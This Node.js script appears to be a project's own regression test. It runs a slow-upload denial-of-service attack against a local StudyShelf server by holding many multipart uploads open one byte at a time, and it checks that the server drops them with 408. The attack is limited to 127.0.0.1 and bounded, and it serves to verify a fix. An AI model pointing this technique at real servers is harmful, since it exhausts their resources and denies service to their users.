#!/usr/bin/env node
// Slow-upload attack against a local StudyShelf (issue 12, finding 6): opens N connections that
// each start a multipart upload and then send one byte every few seconds, and reports how long
// the server kept each one open and what it answered. Only 127.0.0.1; bounded in count and time.
//
//   node scripts/attack/slow-upload.mjs [--port 3000] [--connections 20] [--every 5000] [--max-seconds 120] [--cookie "name=value"]
//
// Without a cookie the server answers 401 at once (no upload starts): sign in as a CR and pass the
// session cookie to test the upload path itself. The server should cut each connection with 408
// within its minimum-rate window (30 s by default) and leave nothing in files/.incoming.
import net from 'node:net';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: {
    port: { type: 'string', default: '3000' },
    connections: { type: 'string', default: '20' },
    every: { type: 'string', default: '5000' },
    'max-seconds': { type: 'string', default: '120' },
    cookie: { type: 'string', default: '' },
  },
});
const port = Number(values.port);
const count = Math.min(200, Math.max(1, Number(values.connections)));
const everyMs = Math.max(100, Number(values.every));
const maxMs = Math.min(600, Math.max(5, Number(values['max-seconds']))) * 1000;
const boundary = '----slowupload';
const fields = { course: 'btech', branch: 'cse', semester: '3', subject: 'Slow Upload', resourceType: 'NOTES', academicYear: '2024-25' };

function attack(i) {
  return new Promise((resolve) => {
    const started = Date.now();
    const socket = net.connect({ host: '127.0.0.1', port });
    let answer = '';
    let sent = 0;
    let timer;
    const finish = (how) => {
      clearInterval(timer);
      socket.destroy();
      resolve({ i, seconds: (Date.now() - started) / 1000, how, status: answer.match(/^HTTP\/1\.1 (\d+)/)?.[1] ?? '-', sent });
    };
    socket.on('connect', () => {
      const head = Object.entries(fields)
        .map(([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`)
        .join('');
      socket.write(
        `POST /api/resources HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nOrigin: http://127.0.0.1:${port}\r\n` +
          (values.cookie ? `Cookie: ${values.cookie}\r\n` : '') +
          `Content-Type: multipart/form-data; boundary=${boundary}\r\nContent-Length: 10000000\r\n\r\n` +
          `${head}--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="slow.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n`,
      );
      timer = setInterval(() => {
        if (Date.now() - started > maxMs) return finish('still open at the time limit (NOT cut)');
        socket.write('x');
        sent++;
      }, everyMs);
    });
    socket.on('data', (chunk) => (answer += chunk.toString('latin1')));
    socket.on('error', () => undefined);
    socket.on('close', () => finish('closed by the server'));
  });
}

console.log(`${count} slow uploads to 127.0.0.1:${port}, one byte every ${everyMs} ms, at most ${maxMs / 1000} s each`);
const results = await Promise.all(Array.from({ length: count }, (_, i) => attack(i)));
const byOutcome = new Map();
for (const r of results) {
  const key = `${r.how}, status ${r.status}`;
  byOutcome.set(key, [...(byOutcome.get(key) ?? []), r.seconds]);
}
for (const [outcome, seconds] of byOutcome) {
  console.log(`${seconds.length} x ${outcome}: open ${Math.min(...seconds).toFixed(1)}-${Math.max(...seconds).toFixed(1)} s`);
}
console.log('Check DATA_DIR/files/.incoming: a fixed server leaves no temporary file behind.');
